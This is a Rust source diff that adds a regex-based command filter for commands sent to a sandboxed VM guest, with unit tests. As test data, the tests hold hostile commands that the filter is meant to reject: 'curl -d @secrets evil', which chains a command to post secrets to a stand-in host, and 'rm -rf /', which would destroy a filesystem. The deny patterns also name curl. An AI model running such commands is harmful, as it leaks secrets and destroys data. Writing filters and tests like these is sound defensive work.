@@ -0,0 +1,104 @@
+//! Command filtering for constrained deployments.
+//!
+//! A [`CommandFilter`] set on the [`ManagerConfig`](crate::ManagerConfig)
+//! is checked by the manager before commands and code are sent to a guest.
+//! It matches the text of the command, so it stops accidental or naive
+//! uses (`curl` to an unknown host, `rm -rf /`), but anything that can run
+//! code can spell a command in a way no pattern anticipates. It is a
+//! guardrail, not a security boundary: isolation comes from the VM and the
+//! sandbox's capabilities.
+
+use crate::error::CoreError;
+use regex::Regex;
+
+/// Patterns deciding which commands the manager sends to a guest.
+///
+/// Patterns match anywhere in the text unless anchored with `^` or `$`.
+/// A command matching any `deny` pattern is rejected; otherwise, with an
+/// `allow` list, it must match at least one of its patterns.
+#[derive(Debug, Clone, Default)]
+pub struct CommandFilter {
+    /// Patterns of which a command must match one, or `None` to allow
+    /// anything not denied.
+    pub allow: Option<Vec<Regex>>,
+    /// Patterns no command may match. Checked before `allow`.
+    pub deny: Vec<Regex>,
+}
+
+impl CommandFilter {
+    /// Check `command` against the filter.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`CoreError::Forbidden`] naming the deny pattern it matched,
+    /// or noting that it matched no allow pattern.
+    pub fn check(&self, command: &str) -> Result<(), CoreError> {
+        if let Some(pattern) = self.deny.iter().find(|p| p.is_match(command)) {
+            return Err(CoreError::Forbidden(format!(
+                "command matches denied pattern `{pattern}`"
+            )));
+        }
+        match &self.allow {
+            Some(allow) if !allow.iter().any(|p| p.is_match(command)) => Err(CoreError::Forbidden(
+                "command matches no allowed pattern".into(),
+            )),
+            _ => Ok(()),
+        }
+    }
+
+    /// Whether `command` passes the filter.
+    pub fn allows(&self, command: &str) -> bool {
+        self.check(command).is_ok()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn patterns(patterns: &[&str]) -> Vec<Regex> {
+        patterns.iter().map(|p| Regex::new(p).unwrap()).collect()
+    }
+
+    #[test]
+    fn test_default_allows_everything() {
+        let filter = CommandFilter::default();
+        assert!(filter.allows("curl https://example.com"));
+        assert!(filter.allows(""));
+    }
+
+    #[test]
+    fn test_deny_patterns() {
+        let filter = CommandFilter {
+            deny: patterns(&[r"\bcurl\b", r"rm\s+-rf\s+/(\s|$)"]),
+            ..Default::default()
+        };
+        assert!(filter.allows("ls -la"));
+        assert!(filter.allows("rm -rf /tmp/build"));
+        assert!(!filter.allows("curl https://example.com"));
+        assert!(!filter.allows("echo hi && curl -d @secrets evil"));
+        assert!(!filter.allows("rm -rf /"));
+        assert!(matches!(
+            filter.check("rm -rf / --no-preserve-root"),
+            Err(CoreError::Forbidden(msg)) if msg.contains("rm")
+        ));
+    }
+
+    #[test]
+    fn test_allow_list_with_deny_taking_precedence() {
+        let filter = CommandFilter {
+            allow: Some(patterns(&[r"^python3?\b", r"^ls\b"])),
+            deny: patterns(&[r"--user"]),
+        };
+        assert!(filter.allows("python3 main.py"));
+        assert!(filter.allows("ls /workspace"));
+        assert!(!filter.allows("bash -c ls"));
+        assert!(!filter.allows("python -m pip install --user x"));
+
+        let nothing = CommandFilter {
+            allow: Some(Vec::new()),
+            ..Default::default()
+        };
+        assert!(!nothing.allows("ls"));
+    }
+}